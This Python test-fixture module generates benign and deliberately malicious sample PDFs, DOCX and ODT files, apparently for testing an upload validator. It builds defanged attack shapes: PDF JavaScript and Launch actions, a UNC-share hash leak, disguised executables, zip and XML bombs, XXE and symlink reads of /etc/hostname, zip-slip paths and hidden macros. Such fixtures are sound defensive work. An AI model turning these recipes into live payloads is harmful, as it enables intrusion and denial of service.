"""Makes files on the spot: honest ones, odd but honest ones, and hostile ones. None is kept in the repository.

Everything is a pure function that returns bytes. The hostile ones are harmless in themselves: their scripts are one
``app.alert``, their programs are a signature and zeros, their addresses end in ``.invalid``.
"""

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from files.samples import docx, docx_parts, odt, odt_parts, packed, pdf

__all__ = ["docx", "docx_parts", "odt", "odt_parts", "packed", "pdf"]

MEGABYTE: Final = 1_000_000
RELATIONS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE2: Final = bytes.fromhex("d0cf11e0a1b11ae1")
DOCUMENT_RELATIONS: Final = "word/_rels/document.xml.rels"
SETTINGS_RELATIONS: Final = "word/_rels/settings.xml.rels"


# PDF


def pdf_with(change: Callable[[pikepdf.Pdf], None], **saving: object) -> bytes:
    """A good PDF after ``change``, saved by pikepdf with the options ``saving``."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        document.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A PDF that asks its reader for a password."""
    return pdf_with(lambda _: None, encryption=pikepdf.Encryption(user="open", owner="own"))


def owner_locked_pdf() -> bytes:
    """A PDF that anybody may read and only its owner may print: honest."""
    return pdf_with(lambda _: None, encryption=pikepdf.Encryption(user="", owner="own"))


def certificate_pdf() -> bytes:
    """A PDF encrypted for certain certificates."""
    encrypt = b"/Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s4 /V 1 /Recipients [] >> /ID [<00> <00>] >>"
    return pdf().replace(b" >>\nstartxref", b" " + encrypt + b"\nstartxref")


def javascript_pdf() -> bytes:
    """A PDF whose script runs when it is opened."""
    return opening_pdf(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def opening_pdf(action: pikepdf.Object) -> bytes:
    """A PDF that performs ``action`` when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return pdf_with(change)


def named_script_pdf() -> bytes:
    """A PDF with a script in its name tree, hidden in a compressed object stream."""

    def change(document: pikepdf.Pdf) -> None:
        script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    return pdf_with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def page_trigger_pdf(action: pikepdf.Object) -> bytes:
    """A PDF that performs ``action`` when its first page is shown."""

    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.AA = Dictionary(O=action)

    return pdf_with(change)


def link_pdf(action: pikepdf.Object) -> bytes:
    """A PDF with a link that performs ``action`` when a person clicks on it."""

    def change(document: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action)
        document.pages[0].obj.Annots = Array([link])

    return pdf_with(change)


def launch_pdf() -> bytes:
    """A PDF that starts a program when a person clicks."""
    return link_pdf(Dictionary(S=Name.Launch, F=String("calc.exe")))


def web_link_pdf() -> bytes:
    """A PDF with a link to the web: honest."""
    return link_pdf(Dictionary(S=Name.URI, URI=String("https://example.invalid/")))


def calling_pdf() -> bytes:
    """A PDF that fetches a file from a Windows share when it is opened, and so gives a password hash away."""
    return opening_pdf(Dictionary(S=Name.GoToE, F=String("\\\\host.invalid\\share"), D=Array([0, Name.Fit])))


def view_pdf() -> bytes:
    """A PDF that opens at a certain view: honest."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Array([document.pages[0].obj, Name.XYZ, 0, 842, 1])

    return pdf_with(change)


def attachment_pdf(name: str, content: bytes) -> bytes:
    """A PDF with a file attached."""

    def change(document: pikepdf.Pdf) -> None:
        document.attachments[name] = content

    return pdf_with(change)


def program_pdf() -> bytes:
    """A PDF with a Windows program attached under an innocent name."""
    return attachment_pdf("photo.jpg", b"MZ\x90" + bytes(100))


def europass_pdf() -> bytes:
    """A PDF with its data attached as XML: honest."""
    return attachment_pdf("attachment.xml", b"<Candidate/>")


def xfa_pdf(packet: bytes) -> bytes:
    """A PDF with an XFA form."""

    def change(document: pikepdf.Pdf) -> None:
        form = Array([String("template"), document.make_stream(packet)])
        document.Root.AcroForm = Dictionary(Fields=Array(), XFA=form)

    return pdf_with(change)


def broken_pdf() -> bytes:
    """Nothing between a PDF's first and last bytes."""
    return b"%PDF-1.7\n" + b"rubbish " * 100 + b"\nstartxref\n9\n%%EOF\n"


def truncated_pdf() -> bytes:
    """A PDF that stopped arriving."""
    whole = pdf()
    return whole[: len(whole) * 8 // 10]


def repairable_pdf() -> bytes:
    """A PDF whose offsets are wrong, as after a transfer in text mode: honest."""
    return pdf().replace(b"\nstartxref\n", b"\nstartxref\n9").replace(b"0000000015", b"0000000099")


def updated_pdf() -> bytes:
    """A PDF with an incremental update behind its first end: honest."""
    first = pdf()
    start = len(first)
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (fi) >>\nendobj\n"
    table = b"xref\n1 1\n%010d 00000 n \n" % start
    previous = first.rindex(b"xref\n0")
    trailer = b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, start + len(update))
    return first + update + table + trailer


def object_stream_bomb_pdf(mb: int = 100) -> bytes:
    """A PDF of some kilobytes whose one object stream, without which it has no pages, unpacks to ``mb`` megabytes."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>"]
    return object_stream_pdf(objects, b" " * MEGABYTE, mb)


def pdf_with_object(body: bytes) -> bytes:
    """A PDF with one more object, number 9, that nothing refers to."""
    return pdf().replace(b"xref\n0", b"9 0 obj\n%s\nendobj\nxref\n0" % body, 1)


def stream(keys: bytes, content: bytes) -> bytes:
    """The body of a stream object, with ``keys`` beside its length."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (keys, len(content), content)


def stray_object_stream_pdf(mb: int = 20) -> bytes:
    """A PDF that opens without its object stream, which unpacks to ``mb`` megabytes and may hold anything."""
    content = zlib.compress(b"9 0 " + b" " * (mb * MEGABYTE), 9)
    return pdf_with_object(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content))


def object_stream_pdf(objects: list[bytes], filler: bytes = b"", times: int = 0) -> bytes:
    """A PDF whose first objects all lie in one object stream, with ``filler`` repeated behind them."""
    index = b"".join(b"%d %d " % (n, sum(map(len, objects[: n - 1]))) for n in range(1, len(objects) + 1))
    machine = zlib.compressobj(9)
    raw = machine.compress(index + b"".join(objects))
    raw += b"".join(machine.compress(filler) for _ in range(times)) + machine.flush()
    number, size = len(objects) + 1, len(objects) + 3
    head = b"%PDF-1.5\n"
    body = b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n"
    body %= (number, len(objects), len(index), len(raw), raw)
    rows = [(0, 0, 65535), *((2, number, n) for n in range(len(objects))), (1, len(head), 0), (1, len(head + body), 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    xref = b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n"
    xref %= (number + 1, size, len(table), table)
    return head + body + xref + b"startxref\n%d\n%%%%EOF\n" % len(head + body)


def deep_pdf() -> bytes:
    """A PDF with an array too deep for anybody's stack."""
    return pdf().replace(b"/Pages 2 0 R", b"/Pages 2 0 R /X " + b"[" * 100_000 + b"]" * 100_000)


def pageless_pdf() -> bytes:
    """A PDF without a page."""
    return pdf().replace(b"/Kids [4 0 R] /Count 1", b"/Kids [] /Count 0     ")


def pdf_with_zip_tail() -> bytes:
    """A PDF that is an archive too."""
    return pdf() + plain_zip()


def pdf_in_zip_comment(decoy: bytes = b"") -> bytes:
    """A PDF with an archive in the middle, whose comment covers the PDF's end, and ``decoy`` in that comment."""
    whole = pdf()
    cut = whole.rindex(b"startxref")
    ending = b"\n%" + decoy + b"\n" + whole[cut:]
    return whole[:cut] + plain_zip()[:-2] + struct.pack("<H", len(ending)) + ending


def pdf_with_html_tail() -> bytes:
    """A PDF that is a web page too."""
    return pdf() + html_named_pdf()


def html_named_pdf() -> bytes:
    """A web page."""
    return b"<!DOCTYPE html><html><script>alert(1)</script></html>\n"


def polyglot_gif_pdf() -> bytes:
    """A GIF that many readers take for a PDF."""
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + pdf()


def polyglot_zip_pdf() -> bytes:
    """A DOCX that many readers take for a PDF: its first entry is one, stored as it is."""
    return raw_zip([RawEntry("a.pdf", pdf(), is_stored=True), *raw_entries(docx_parts())])


# ZIP containers


@dataclass(frozen=True)
class RawEntry:
    """An entry of a ZIP in which everything may be a lie."""

    name: str
    content: bytes = b""
    is_stored: bool = False
    packed: bytes | None = None
    """What lies in the archive, where that is not ``content`` deflated."""
    size: int | None = None
    """What the headers state."""
    crc: int | None = None
    flags: int = 0
    method: int | None = None
    local_name: str | None = None
    mode: int = 0
    """Unix permissions and file type."""


def raw_entries(parts: dict[str, bytes]) -> list[RawEntry]:
    """Honest entries of ``parts``."""
    return [RawEntry(name, content) for name, content in parts.items()]


def raw_zip(entries: list[RawEntry]) -> bytes:
    """A ZIP written by hand, header by header."""
    out, directory = bytearray(), bytearray()
    for entry in entries:
        data = (
            entry.packed if entry.packed is not None else entry.content if entry.is_stored else deflated(entry.content)
        )
        crc = zlib.crc32(entry.content) if entry.crc is None else entry.crc
        size = len(entry.content) if entry.size is None else entry.size
        method = (0 if entry.is_stored else 8) if entry.method is None else entry.method
        name, local = entry.name.encode(), (entry.local_name or entry.name).encode()
        middle = struct.pack("<4H3L", entry.flags, method, 0, 0x21, crc, len(data), size)
        directory += struct.pack("<4s2H", b"PK\x01\x02", 0x314, 20) + middle
        directory += struct.pack("<5H2L", len(name), 0, 0, 0, 0, entry.mode << 16, len(out)) + name
        out += struct.pack("<4sH", b"PK\x03\x04", 20) + middle + struct.pack("<2H", len(local), 0) + local + data
    count = len(entries)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(out), 0)
    return bytes(out + directory + end)


def deflated(content: bytes) -> bytes:
    """``content`` as a raw deflate stream."""
    machine = zlib.compressobj(wbits=-15)
    return machine.compress(content) + machine.flush()


def zeros(mb: int, name: str = "word/media/image1.bmp") -> RawEntry:
    """An entry of ``mb`` megabytes of zeros, made without unpacking it: one megabyte, packed once and repeated."""
    machine = zlib.compressobj(9, wbits=-15)
    block = machine.compress(bytes(MEGABYTE)) + machine.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mb):
        crc = zlib.crc32(bytes(MEGABYTE), crc)
    return RawEntry(name, packed=block * mb + machine.flush(), size=mb * MEGABYTE, crc=crc)


def docx_with(parts: dict[str, bytes], text: str = "Curriculum vitae") -> bytes:
    """A DOCX with parts added or replaced."""
    return packed({**docx_parts(text), **parts})


def odt_with(parts: dict[str, bytes]) -> bytes:
    """An ODT with parts added or replaced."""
    return packed({**odt_parts(), **parts})


def docx_with_entry(entry: RawEntry) -> bytes:
    """A DOCX with one more entry, which may be anything."""
    return raw_zip([*raw_entries(docx_parts()), entry])


def changed_docx(part: str, old: str, new: str) -> bytes:
    """A DOCX with ``old`` replaced in one part."""
    content = docx_parts()[part]
    assert old.encode() in content
    return docx_with({part: content.replace(old.encode(), new.encode())})


def changed_odt(part: str, old: str, new: str) -> bytes:
    """An ODT with ``old`` replaced in one part."""
    content = odt_parts()[part]
    assert old.encode() in content
    return odt_with({part: content.replace(old.encode(), new.encode())})


def truncated_docx() -> bytes:
    """A DOCX that stopped arriving."""
    return docx("text " * 1000)[:-100]


def zip_bomb_docx(mb: int = 200) -> bytes:
    """A DOCX of some hundred kilobytes that unpacks to ``mb`` megabytes."""
    return docx_with_entry(zeros(mb))


def zip_bomb_odt(mb: int = 200) -> bytes:
    """The same as an ODT."""
    return raw_zip([*raw_entries(odt_parts()), zeros(mb, "Pictures/1.bmp")])


def xml_bomb_docx(mb: int = 60) -> bytes:
    """A DOCX whose document is one long run of spaces, within the total and far beyond the ratio."""
    return docx_with({"word/document.xml": docx_parts()["word/document.xml"] + b" " * (mb * MEGABYTE)})


def lying_size_docx(mb: int = 200) -> bytes:
    """A DOCX whose headers state 1 KB where ``mb`` megabytes come out."""
    honest = zeros(mb)
    return docx_with_entry(RawEntry(honest.name, packed=honest.packed, size=1000, crc=zlib.crc32(bytes(1000))))


def small_lie_docx() -> bytes:
    """A DOCX with an entry that is a little longer than its header states."""
    return docx_with_entry(RawEntry("word/media/image1.png", b"longer than stated", size=6, crc=zlib.crc32(b"longer")))


def many_entries_docx(count: int = 2_100) -> bytes:
    """A DOCX with too many entries."""
    return docx_with({f"word/media/{number}.txt": b"" for number in range(count)})


def encrypted_docx() -> bytes:
    """The beginning of what Word writes for a document with a password: an OLE2 container, not a ZIP."""
    return OLE2 + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)


def zip_encrypted_docx() -> bytes:
    """A DOCX that an archiver has encrypted."""
    return docx_with_entry(RawEntry("word/media/image1.png", b"x", flags=1))


def legacy_doc() -> bytes:
    """The beginning of a document of Word 97."""
    return OLE2 + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(512)


def legacy_xls() -> bytes:
    """The beginning of a workbook of Excel 97."""
    return OLE2 + bytes(504) + "Workbook".encode("utf-16-le") + bytes(512)


def rtf() -> bytes:
    """A document in RTF."""
    return rb"{\rtf1\ansi Curriculum vitae}"


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    """A relations part with one relation."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def macro_docx() -> bytes:
    """A document with macros that calls itself macro-enabled."""
    return changed_docx("[Content_Types].xml", *_MACRO_ENABLED)


_MACRO_ENABLED: Final = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
)


def hidden_macro_docx() -> bytes:
    """A document with macros that calls itself plain."""
    return docx_with({"word/vbaProject.bin": OLE2 + bytes(100)})


def remote_template_docx(target: str = "https://host.invalid/template.dotm") -> bytes:
    """A DOCX whose template is ``target``. A local one is honest: Word writes it into every document."""
    return docx_with({SETTINGS_RELATIONS: relation("attachedTemplate", target)})


def field_docx(*pieces: str) -> bytes:
    """A DOCX with one field, its instruction cut into ``pieces``."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "end"))
    return changed_docx("word/document.xml", "<w:sectPr/>", f"<w:p>{begin}{runs}{end}</w:p><w:sectPr/>")


def strict_docx() -> bytes:
    """A DOCX in the strict kind of the format: honest."""
    parts = docx_parts()
    old, new = b"http://schemas.openxmlformats.org/", b"http://purl.oclc.org/ooxml/"
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        old + b"wordprocessingml/2006", new + b"wordprocessingml"
    )
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(old + b"officeDocument/2006", new + b"officeDocument")
    return packed(parts)


def xxe_docx() -> bytes:
    """A DOCX that asks for a file of the server."""
    return _with_doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;")


def billion_laughs_docx() -> bytes:
    """A DOCX whose entities multiply."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return _with_doctype(f"<!DOCTYPE x [{entities}]>", "&e9;")


def _with_doctype(doctype: str, reference: str) -> bytes:
    document = docx_parts("MARK")["word/document.xml"].decode()
    document = document.replace("<w:document", doctype + "<w:document").replace("MARK", reference)
    return docx_with({"word/document.xml": document.encode()})


def deep_docx(depth: int = 50_000) -> bytes:
    """A DOCX with elements within elements."""
    return changed_docx("word/document.xml", "<w:sectPr/>", "<w:p>" * depth + "</w:p>" * depth)


def zip_slip_docx(name: str = "../../evil.txt") -> bytes:
    """A DOCX with an entry that climbs out of its folder."""
    return docx_with_entry(RawEntry(name, b"x"))


def symlink_docx(target: str = "/etc/hostname") -> bytes:
    """A DOCX with an entry that is a symbolic link."""
    return docx_with_entry(RawEntry("word/media/image1.png", target.encode(), mode=0o120777))


def plain_zip() -> bytes:
    """An archive of text files."""
    return packed({"a.txt": b"a", "b.txt": b"b"})


def other_package(kind: str) -> bytes:
    """A package of OPC with a main part of another type: XLSX, PPTX."""
    return changed_docx("[Content_Types].xml", _MACRO_ENABLED[0], kind)


def xlsx() -> bytes:
    """A workbook."""
    return other_package("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


def epub() -> bytes:
    """A book."""
    return packed({"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<container/>"})


def jar() -> bytes:
    """A program of Java."""
    return packed({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})


def encrypted_odt() -> bytes:
    """An ODT with a password."""
    return changed_odt(
        "META-INF/manifest.xml", 'text/xml"/>', 'text/xml"><manifest:encryption-data/></manifest:file-entry>'
    )


def macro_odt() -> bytes:
    """An ODT with a Basic macro."""
    module = (
        '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main</script:module>'
    )
    return odt_with({"Basic/Standard/Module1.xml": module.encode()})


def openoffice_odt() -> bytes:
    """An ODT as OpenOffice 3 wrote it: bare document types, an empty macro library, empty parts. Honest."""
    doctype = '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
    library = (
        '<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd">'
        '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"/>'
    )
    manifest = odt_parts()["META-INF/manifest.xml"].decode()
    return odt_with(
        {
            "META-INF/manifest.xml": manifest.replace("<manifest:manifest", doctype + "<manifest:manifest").encode(),
            "Basic/Standard/script-lb.xml": library.encode(),
            "Configurations2/accelerator/current.xml": b"",
            "settings.xml": b"",
        }
    )
